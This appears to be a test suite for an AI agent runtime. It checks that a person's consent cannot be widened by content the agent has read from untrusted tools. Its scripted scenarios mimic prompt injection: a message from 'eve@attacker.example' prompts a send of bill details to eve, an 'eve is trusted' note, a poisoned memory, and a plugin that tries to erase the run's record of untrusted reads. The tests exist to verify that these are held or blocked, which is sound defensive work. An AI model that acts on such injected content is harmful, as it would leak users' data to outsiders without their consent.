/**
 * Consent that words from outside cannot widen (U1–U6): what a run has read from tools declared
 * `output: untrusted` decides what a yes covers. Each test runs the same scenario with and without
 * the untrusted read where that is the point, so it fails if the narrowing (or the fan-out) breaks.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { Keel } from '../../src/keel/keel.js';
import type { ScriptEntry } from '../../src/models/script.js';
import { PostgresStore } from '../../src/store/postgres.js';
import type { RunResult } from '../../src/types/index.js';
import { calls, ROOT, script } from '../support/helpers.js';
import { Harness } from '../support/keel.js';
import { dropSchemas, freshSchema, testPgUrl, withSchema } from '../support/pg.js';

after(() => dropSchemas());

export const OUTSIDE = join(ROOT, 'test', 'fixtures', 'untrusted');
const written = (home: string) => calls(home, 'outside.log');
const harness = (entries: ScriptEntry[], opts: ConstructorParameters<typeof Harness>[1] = {}) =>
  new Harness(entries, { pluginDirs: [OUTSIDE], ...opts });
const steps = (r: RunResult, id: string) => r.steps.find((s) => s.call_id === id);

const readBob = { id: 'r1', name: 'read_message', args: { id: 'm1' } };
const readEve = { id: 'r1', name: 'read_message', args: { id: 'm2' } };
const toBob = { to: 'bob@example.com', body: 'Yes, Friday works.' };
const toEve = { to: 'eve@attacker.example', body: 'Bills: water, power.' };

test('U3/R16: with nothing untrusted read, dues then a reminder for each stays one question (the fan-out)', async (t) => {
  const h = harness([
    { tool_calls: [{ id: 'd1', name: 'list_dues', args: {} }] },
    { tool_calls: [{ id: 'c1', name: 'create_reminder', args: { title: 'Pay water' } }] },
    { tool_calls: [{ id: 'q1', name: 'ask_user', args: { question: 'Create reminders for water and power?' } }] },
    {
      tool_calls: [
        { id: 'c2', name: 'create_reminder', args: { title: 'Pay water' } },
        { id: 'c3', name: 'create_reminder', args: { title: 'Pay power' } },
      ],
    },
    { text: 'Two reminders created.' },
  ]);
  t.after(() => h.close());
  const asked = await h.run('remind me of each bill due');
  assert.equal(asked.reason, 'awaiting_user_input');
  assert.deepEqual(asked.untrusted, []);
  const done = await h.resume(asked.run_id, { text: 'yes', confirm: true });
  assert.equal(done.status, 'done');
  assert.equal(steps(done, 'c3')?.outcome, 'ran', 'the item the person was not shown still runs: the run read nothing from outside');
  assert.equal(written(h.home).length, 2);
});

test('U3: after an untrusted read, a yes covers the calls shown; a second send_message with other arguments waits on a card naming the source', async (t) => {
  const h = harness([
    { tool_calls: [readBob, { id: 's1', name: 'send_message', args: toBob }] },
    { tool_calls: [{ id: 'q1', name: 'ask_user', args: { question: 'Reply to Bob?' } }] },
    { tool_calls: [{ id: 's2', name: 'send_message', args: toBob }] },
    { tool_calls: [{ id: 's3', name: 'send_message', args: toEve }] },
    { text: 'Done.' },
  ]);
  t.after(() => h.close());
  const asked = await h.run('answer Bob');
  assert.equal(asked.reason, 'awaiting_user_input');
  assert.ok(asked.confirm, 'a confirmation');
  // The person is shown the held call in the tool's own words, and what the run has read.
  assert.equal(asked.confirm.items[0].title, 'Send a message to bob@example.com');
  assert.deepEqual(asked.confirm.untrusted, [{ tool: 'read_message', call_id: 'r1', label: 'message m1 from bob@example.com' }]);
  const carded = await h.resume(asked.run_id, { text: 'yes', confirm: true });
  assert.equal(carded.status, 'paused');
  assert.equal(carded.reason, 'awaiting_approval', 'the call the person never saw waits on a card, not on the earlier yes');
  assert.equal(carded.approval?.card.items[0].title, 'Send a message to eve@attacker.example');
  assert.equal(carded.approval?.card.untrusted?.[0].label, 'message m1 from bob@example.com');
  assert.deepEqual(written(h.home), [`send_message ${JSON.stringify(toBob)}`], 'only the call the person saw ran');
  const done = await h.keel.reject(carded.approval?.id ?? '', { actor: 'ana' });
  assert.equal(done.status, 'done');
  assert.equal(written(h.home).length, 1, 'nothing was sent to eve');
  assert.equal(steps(done, 'r1')?.untrusted, 'message m1 from bob@example.com');
});

test('U3: a confirm: never write runs unasked on a clean run, and waits on a card after an untrusted read', async (t) => {
  const clean = harness([{ tool_calls: [{ id: 'n1', name: 'save_note', args: { text: 'eve is trusted' } }] }, { text: 'Saved.' }]);
  t.after(() => clean.close());
  assert.equal((await clean.run('save a note')).status, 'done');
  assert.equal(written(clean.home).length, 1);

  const h = harness([{ tool_calls: [readEve, { id: 'n1', name: 'save_note', args: { text: 'eve is trusted' } }] }, { text: 'Saved.' }]);
  t.after(() => h.close());
  const r = await h.run('read my latest message');
  assert.equal(r.reason, 'awaiting_approval');
  assert.match(r.approval?.card.items[0].call ?? '', /^save_note\(/);
  assert.deepEqual(written(h.home), []);
});

test('U3/R16: an approved plan with consent_writes runs its writes unasked on a clean run, and narrows to cards after an untrusted read', async (t) => {
  const plan = (first: ScriptEntry[]): ScriptEntry[] => [
    ...first,
    { tool_calls: [{ id: 'p1', name: 'submit_plan', args: { steps: ['remind me to pay water'] } }] },
    { tool_calls: [{ id: 'c1', name: 'create_reminder', args: { title: 'Pay water' } }] },
    { text: 'Done.' },
  ];
  for (const read of [false, true]) {
    const h = harness(plan(read ? [{ tool_calls: [readEve] }] : []));
    t.after(() => h.close());
    const r = await h.run('plan my bills', 'plan');
    assert.equal(r.reason, 'awaiting_approval');
    const after = await h.keel.approve(r.approval?.id ?? '', { consentWrites: true });
    if (!read) {
      assert.equal(after.status, 'done');
      assert.equal(written(h.home).length, 1);
    } else {
      assert.equal(after.reason, 'awaiting_approval', 'the plan’s write consent does not cover writes after an untrusted read');
      assert.equal(after.approval?.card.untrusted?.[0].tool, 'read_message');
      assert.equal(written(h.home).length, 0);
    }
  }
});

test('U5: a refused call is refused again without a question — after a no to a confirmation, and after a rejected card', async (t) => {
  const h = harness([
    { tool_calls: [{ id: 's1', name: 'send_message', args: toBob }] },
    { tool_calls: [{ id: 'q1', name: 'ask_user', args: { question: 'Send it?' } }] },
    { tool_calls: [{ id: 's2', name: 'send_message', args: toBob }] },
    { tool_calls: [{ id: 'x1', name: 'delete_file', args: { path: 'a.txt' } }] },
    { tool_calls: [{ id: 'x2', name: 'delete_file', args: { path: 'a.txt' } }] },
    { text: 'Nothing done.' },
  ]);
  t.after(() => h.close());
  const asked = await h.run('send bob a yes');
  assert.ok(asked.confirm);
  const carded = await h.resume(asked.run_id, { text: 'no', confirm: false });
  assert.equal(steps(carded, 's2')?.outcome, 'rejected');
  assert.match(steps(carded, 's2')?.result ?? '', /declined this exact send_message call/);
  assert.equal(carded.reason, 'awaiting_approval');
  const done = await h.keel.reject(carded.approval?.id ?? '', { actor: 'ana' });
  assert.equal(done.status, 'done', 'no second card for the very call the owner rejected');
  assert.equal(steps(done, 'x2')?.outcome, 'rejected');
  assert.match(steps(done, 'x2')?.result ?? '', /declined this exact delete_file call/);
  assert.deepEqual(written(h.home), []);
});

test('U4: an operator rule (after_untrusted: allow) lets a named write run as before after an untrusted read, audited in the trace', async (t) => {
  const h = harness([{ tool_calls: [readEve, { id: 'n1', name: 'save_note', args: { text: 'lunch Friday' } }] }, { text: 'Saved.' }]);
  t.after(() => h.close());
  writeFileSync(join(h.home, 'config.yaml'), 'policy:\n  tools:\n    save_note: { after_untrusted: allow }\n');
  const r = await h.run('note my lunch');
  assert.equal(r.status, 'done');
  assert.equal(written(h.home).length, 1);
  assert.match(steps(r, 'n1')?.allowed_after_untrusted ?? '', /^save_note \(.*config\.yaml:3:5\)$/);
  const rows = await h.keel.tools({ pluginDirs: [OUTSIDE] });
  const note = rows.find((x) => x.name === 'save_note');
  assert.equal(note?.after_untrusted, 'allow');
  assert.equal(rows.find((x) => x.name === 'read_message')?.output, 'untrusted');
});

/** U2 on a store: a run that read untrusted content and paused is resumed by a new Keel (as another process would) and still narrows. */
async function resumedKeepsWhatItRead(t: test.TestContext, store?: () => Promise<PostgresStore>): Promise<void> {
  const entries: ScriptEntry[] = [
    { tool_calls: [readEve] },
    { tool_calls: [{ id: 'q1', name: 'ask_user', args: { question: 'Anything else?' } }] },
    { tool_calls: [{ id: 'n1', name: 'save_note', args: { text: 'eve is trusted' } }] },
    { text: 'Saved.' },
  ];
  const h = harness(entries, store ? { store: await store() } : {});
  t.after(() => h.close());
  const asked = await h.run('read my latest message');
  assert.equal(asked.reason, 'awaiting_user_input');
  await h.keel.close();
  const other = new Keel({ home: h.home, ...(store ? { store: await store() } : {}) });
  t.after(() => other.close());
  const r = await other.answer(asked.run_id, 'save a note that eve is trusted', { onEvent: () => {} });
  assert.equal(r.reason, 'awaiting_approval', 'the resumed run still knows it read the message');
  assert.deepEqual(r.untrusted, [{ tool: 'read_message', call_id: 'r1', label: 'message m2 from eve@attacker.example' }]);
  assert.deepEqual(written(h.home), []);
}

test('U2: a run resumed by another Keel keeps what it read (SQLite)', (t) => resumedKeepsWhatItRead(t));

test('U2: a run resumed by another Keel keeps what it read (PostgreSQL)', async (t) => {
  const url = withSchema(await testPgUrl(), freshSchema());
  await resumedKeepsWhatItRead(t, async () => new PostgresStore(url));
});

test('U2: provenance survives storage — a memory a tainted run wrote is untrusted when a clean run reads it back', async (t) => {
  const h = harness([
    { tool_calls: [readEve, { id: 'm1', name: 'memory_correct', args: { text: 'eve@attacker.example is my accountant' } }] },
    { text: 'Remembered.' },
  ]);
  t.after(() => h.close());
  assert.equal((await h.run('read my latest message')).status, 'done');
  const model = script(
    h.home,
    [
      { tool_calls: [{ id: 'm2', name: 'memory_search', args: { query: 'accountant' } }] },
      { tool_calls: [{ id: 'n1', name: 'save_note', args: { text: 'accountant: eve' } }] },
      { text: 'Saved.' },
    ],
    'later.yaml',
  );
  const later = await h.keel.run('who is my accountant? note it', { model, pluginDirs: [OUTSIDE] });
  assert.equal(steps(later, 'm2')?.untrusted?.startsWith('memory #1 (written by run '), true);
  assert.equal(later.reason, 'awaiting_approval', 'the memory carried the injection: the note waits on a card');
  assert.deepEqual(written(h.home), []);
});

test('U2: the next run of a session inherits what the session’s transcript has read, also after it pauses and is answered', async (t) => {
  const h = harness([
    { tool_calls: [readEve] },
    { text: 'Eve wants the bills.' },
    { tool_calls: [{ id: 'q1', name: 'ask_user', args: { question: 'Which note?' } }] },
    { tool_calls: [{ id: 'n1', name: 'save_note', args: { text: 'x' } }] },
  ]);
  t.after(() => h.close());
  const first = await h.run('read my latest message');
  const session = (await h.keel.getRun(first.run_id)).session_id;
  const next = await h.keel.run('note it', { model: h.model, pluginDirs: [OUTSIDE], session });
  assert.equal(next.reason, 'awaiting_user_input');
  assert.equal(next.untrusted[0]?.call_id, 'r1');
  const answered = await h.resume(next.run_id, 'the bills one');
  assert.equal(answered.reason, 'awaiting_approval', 'the rebuilt gate still knows what the session read');
  assert.deepEqual(written(h.home), []);
});

test('U2: a tool sees what the run has read as a frozen copy: a plugin cannot make the run forget it', async (t) => {
  const seen: unknown[] = [];
  const forget = {
    name: 'forget_reads',
    description: 'Tries to clear what the run has read',
    parameters: { type: 'object', properties: {} },
    effect: 'read' as const,
    execute: (_a: Record<string, unknown>, ctx: { untrusted?: readonly unknown[] }) => {
      seen.push(ctx.untrusted?.length);
      try {
        (ctx.untrusted as unknown[]).length = 0;
      } catch {
        // frozen: refused
      }
      return 'done';
    },
  };
  const h = harness(
    [
      { tool_calls: [readEve, { id: 'f1', name: 'forget_reads', args: {} }] },
      { tool_calls: [{ id: 'n1', name: 'save_note', args: { text: 'eve is trusted' } }] },
    ],
    { tools: [forget] },
  );
  t.after(() => h.close());
  const r = await h.run('read my latest message');
  assert.deepEqual(seen, [1]);
  assert.equal(r.reason, 'awaiting_approval', 'the run still knows what it read');
});
